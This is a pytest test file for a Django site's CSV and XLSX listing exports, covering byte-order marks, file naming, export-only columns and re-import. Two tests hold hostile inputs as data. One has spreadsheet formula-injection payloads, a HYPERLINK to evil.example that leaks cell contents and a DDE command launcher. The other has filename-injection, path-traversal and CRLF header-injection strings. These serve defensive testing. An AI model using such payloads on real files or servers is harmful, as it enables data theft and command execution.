"""Listing downloads people can open (issue 10): CSV with a byte-order mark for Excel, the same rows as XLSX,
export-only columns (partner countries, Chinese names, page addresses), names saying what was filtered
and when; the /data/ files stay without a BOM; a downloaded file imports back exactly."""
import csv
import io
import re
from datetime import date
from urllib.parse import unquote

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from catalog.models import Source
from core.fileformat.importing import import_files
from tests.factories import InstitutionFactory

pytestmark = pytest.mark.django_db

BOM = "\ufeff".encode()
TODAY = date(2026, 11, 24)


@pytest.fixture(autouse=True)
def today(monkeypatch):
    monkeypatch.setattr(timezone, "localdate", lambda *args, **kwargs: TODAY)


def body(response) -> bytes:
    return b"".join(response.streaming_content)


def csv_table(response) -> list[list[str]]:
    data = body(response)
    assert data.startswith(BOM)
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def xlsx_table(response):
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    workbook = load_workbook(io.BytesIO(body(response)))
    return workbook, [["" if cell.value is None else str(cell.value) for cell in row]
                      for row in workbook.active.iter_rows()]


def as_dicts(table) -> dict[str, dict[str, str]]:
    header, *rows = table
    return {row[0]: dict(zip(header, row)) for row in rows}


def file_names(response) -> tuple[str, str]:
    """(filename, filename*) of the Content-Disposition header, the second one decoded."""
    disposition = response["Content-Disposition"]
    plain = re.search(r'filename="([^"]*)"', disposition)[1]
    extended = re.search(r"filename\*=UTF-8''(\S+)", disposition)[1]
    return plain, unquote(extended)


class TestByteOrderMark:
    @pytest.mark.parametrize("path", ["/programs/export.csv", "/institutes/export.csv", "/institutions/export.csv",
                                      "/agreements/export.csv", "/figures/export.csv"])
    def test_every_listing_csv_starts_with_one(self, client, path):
        response = client.get(path)
        assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
        assert body(response).startswith(BOM + b"slug," if "figures" not in path else BOM + b"subject_type,")

    @pytest.mark.parametrize("path", ["/data/programs.csv", "/data/institutions.csv", "/data/programs.json"])
    def test_open_data_files_have_none(self, client, path):
        assert not body(client.get(path)).startswith(BOM)

    def test_data_page_says_so(self, client):
        page = client.get("/data/").content.decode()
        assert "without a byte-order mark" in page and "listing pages" in page

    def test_chinese_is_intact(self, client):
        rows = as_dicts(csv_table(client.get("/institutions/export.csv?country=CN&q=邮电")))
        assert [row["native_name"] for row in rows.values()] == ["重庆邮电大学"]


class TestXlsx:
    @pytest.mark.parametrize("listing", ["programs", "institutes", "institutions", "agreements", "figures"])
    def test_same_header_and_rows_as_the_csv(self, client, listing):
        query = "?country=RU" if listing in ("programs", "institutes") else ""
        workbook, table = xlsx_table(client.get(f"/{listing}/export.xlsx{query}"))
        assert table == csv_table(client.get(f"/{listing}/export.csv{query}"))
        assert len(table) > 1

    def test_number_columns_hold_numbers(self, client):
        workbook, table = xlsx_table(client.get("/figures/export.xlsx?year=2019"))
        header = table[0]
        values = [row[header.index("value")].value for row in workbook.active.iter_rows(min_row=2)]
        assert values and all(isinstance(value, (int, float)) for value in values)
        names = [row[header.index("subject")].data_type for row in workbook.active.iter_rows(min_row=2)]
        assert set(names) == {"s"}

    def test_chinese_names_and_bold_frozen_header(self, client):
        workbook, table = xlsx_table(client.get("/institutions/export.xlsx?country=CN"))
        sheet = workbook.active
        assert sheet.title == "institutions" and sheet.freeze_panes == "A2" and sheet["A1"].font.bold
        assert "重庆邮电大学" in [row["native_name"] for row in as_dicts(table).values()]

    def test_formula_cells_are_plain_text_quoted_as_in_csv(self, client):
        source = Source.objects.first()
        for name in ['=HYPERLINK("http://evil.example/?"&A1,"Click me")', "+1+cmd|' /C calc'!A0", "@SUM(1+9) College"]:
            InstitutionFactory(name=name, country="NZ").sources.add(source)
        workbook, table = xlsx_table(client.get("/institutions/export.xlsx?country=NZ"))
        names = [row["name"] for row in as_dicts(table).values()]
        assert {"'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click me\")", "'+1+cmd|' /C calc'!A0",
                "'@SUM(1+9) College"} <= set(names)
        cells = [cell for row in workbook.active.iter_rows() for cell in row]
        assert all(cell.data_type != "f" for cell in cells)
        assert table == csv_table(client.get("/institutions/export.csv?country=NZ"))

    def test_control_characters_do_not_break_the_workbook(self, client):
        InstitutionFactory(name="Bell\x07 University", country="NZ").sources.add(Source.objects.first())
        workbook, table = xlsx_table(client.get("/institutions/export.xlsx?country=NZ&q=Bell"))
        assert [row["name"] for row in as_dicts(table).values()] == ["Bell University"]

    def test_a_bad_filter_explains_itself(self, client):
        response = client.get("/programs/export.xlsx?country=XX")
        assert response.status_code == 400 and "Unknown country code: XX" in response.content.decode()


class TestFileNames:
    @pytest.mark.parametrize("path, name", [
        ("/programs/export.csv", "programs_2026-11-24.csv"),
        ("/programs/export.xlsx", "programs_2026-11-24.xlsx"),
        ("/programs/export.csv?country=RU", "programs_country-RU_2026-11-24.csv"),
        ("/programs/export.csv?country=ru&page=3&sort=-approved&q=", "programs_country-RU_2026-11-24.csv"),
        ("/programs/export.xlsx?level=bachelor&country=RU&country=BY",
         "programs_country-BY+RU_level-bachelor_2026-11-24.xlsx"),
        ("/programs/export.csv?discipline=cn-grad:08", "programs_discipline-cn-grad-08_2026-11-24.csv"),
        ("/institutes/export.csv?city=Chongqing", "joint_institutes_city-Chongqing_2026-11-24.csv"),
        ("/figures/export.csv?year=2019", "figures_year-2019_2026-11-24.csv"),
    ])
    def test_what_was_filtered_and_when(self, client, path, name):
        response = client.get(path)
        assert response.status_code == 200
        assert file_names(response) == (name, name)

    def test_chinese_search_keeps_its_letters_in_filename_star(self, client):
        plain, full = file_names(client.get("/programs/export.csv?q=远东"))
        assert plain == "programs_q_2026-11-24.csv" and full == "programs_q-远东_2026-11-24.csv"

    @pytest.mark.parametrize("value", ['"; filename="evil.exe', "../../etc/passwd", "a\r\nSet-Cookie: x=1",
                                       "x" * 5000, "名" * 300, "%00\\/:*?<>|_"])
    def test_hostile_values_give_safe_bounded_names(self, client, value):
        response = client.get("/programs/export.csv", {"q": value[:200], "city": value})
        assert response.status_code in (200, 400)
        if response.status_code == 400:
            return
        disposition = response["Content-Disposition"]
        assert "\r" not in disposition and "\n" not in disposition and disposition.count('"') == 2
        for name in file_names(response):
            assert re.fullmatch(r"[\w+-]+\.csv", name), name
            assert name.startswith("programs_") and name.endswith("_2026-11-24.csv") and len(name) < 170


class TestExportOnlyColumns:
    def test_programs_have_partner_countries_chinese_names_and_page_addresses(self, client):
        rows = as_dicts(csv_table(client.get("/programs/export.csv")))
        iot = rows["cqupt-fefu-internet-of-things-engineering-bachelor"]
        assert iot["partner_countries"] == "RU"
        assert iot["host_chinese_name"] == "重庆邮电大学"
        assert iot["partners_chinese_names"] == "远东联邦大学"  # FEFU's Chinese alias: its native name is Russian
        assert iot["page_url"] == "http://testserver/programs/cqupt-fefu-internet-of-things-engineering-bachelor/"
        assert rows["cqu-nsu-physics"]["partners_chinese_names"] == "新西伯利亚国立大学"
        assert all(row["page_url"].startswith("http://testserver/programs/") for row in rows.values())

    def test_joint_institutes_institutions_and_agreements(self, client):
        institute = as_dicts(csv_table(client.get("/institutes/export.csv")))["cqupt-fefu-joint-institute"]
        assert institute["partner_countries"] == "RU" and institute["hosts_chinese_names"] == "重庆邮电大学"
        assert institute["partners_chinese_names"] == "远东联邦大学"
        assert institute["page_url"] == "http://testserver/institutes/cqupt-fefu-joint-institute/"
        institution = as_dicts(csv_table(client.get("/institutions/export.csv?q=CQUPT")))
        assert [row["page_url"] for row in institution.values()] == [
            "http://testserver/institutions/chongqing-university-of-posts-and-telecommunications/"]
        agreements = as_dicts(csv_table(client.get("/agreements/export.csv"))).values()
        assert all(row["party_countries"] and row["page_url"].startswith("http://") for row in agreements)

    def test_page_addresses_keep_the_language_of_the_download(self, client):
        rows = as_dicts(csv_table(client.get("/zh-hans/programs/export.csv?country=NZ")))
        assert [row["page_url"] for row in rows.values()] == ["http://testserver/zh-hans/programs/swu-otago-pharmacy/"]

    def test_open_data_csv_and_json_carry_them_too(self, client):
        csv_rows = list(csv.DictReader(io.StringIO(body(client.get("/data/programs.csv")).decode())))
        assert all(row["page_url"].startswith("http://testserver/programs/") for row in csv_rows)
        objects = __import__("json").loads(body(client.get("/data/joint_institutes.json")))
        institute = next(o for o in objects if o["slug"] == "cqupt-fefu-joint-institute")
        assert institute["partner_countries"] == ["RU"] and institute["partners_chinese_names"] == ["远东联邦大学"]


@pytest.mark.parametrize("url, kind", [
    ("/programs/export.csv?country=RU", "programs"), ("/institutes/export.csv", "joint_institutes"),
    ("/institutions/export.csv", "institutions"), ("/agreements/export.csv", "agreements"),
    ("/data/programs.csv", "programs"), ("/data/joint_institutes.json", "joint_institutes"),
])
def test_a_download_imports_back_unchanged(client, tmp_path, url, kind):
    """BOM and export-only columns included: the importer drops the mark, ignores those columns, and changes nothing."""
    response = client.get(url)
    first = body(response)
    # Named as downloaded (programs_country-RU_2026-11-24.csv): the importer knows the kind by the header.
    path = tmp_path / (file_names(response)[0] if "export" in url else f"download.{url.rsplit('.', 1)[1]}")
    path.write_bytes(first)
    report = import_files([path], publish=True)
    assert not report.errors, [str(error) for error in report.errors]
    assert report.counts[kind].get("unchanged") and set(report.counts[kind]) == {"unchanged"}, report.counts
    assert body(client.get(url)) == first


def test_the_admin_import_takes_a_download_with_one_cell_changed(client, staff_client, tmp_path):
    from django.urls import reverse

    text = body(client.get("/programs/export.csv?country=RU")).decode("utf-8")  # with its byte-order mark
    assert text.startswith("\ufeff") and ",page_url" in text
    path = tmp_path / "programs_country-RU_2026-11-24.csv"
    header, *rows = list(csv.reader(io.StringIO(text[1:])))
    physics = next(row for row in rows if row[0] == "cqu-nsu-physics")
    physics[header.index("annual_intake")] = "45"
    physics[header.index("page_url")] = "http://elsewhere.example/ignored/"  # export-only: ignored
    buffer = io.StringIO()
    csv.writer(buffer).writerows([header, *rows])
    path.write_text("\ufeff" + buffer.getvalue(), encoding="utf-8")
    with path.open("rb") as handle:
        preview = staff_client.post(reverse("admin:partnerships_program_import"),
                                    {"format": "0", "resource": "0", "import_file": handle})
    page = preview.content.decode()
    assert "Confirm import" in page, page
    assert "<b>annual_intake</b>: (empty) → 45" in page
    assert "page_url</b>" not in page and "unknown column" not in page
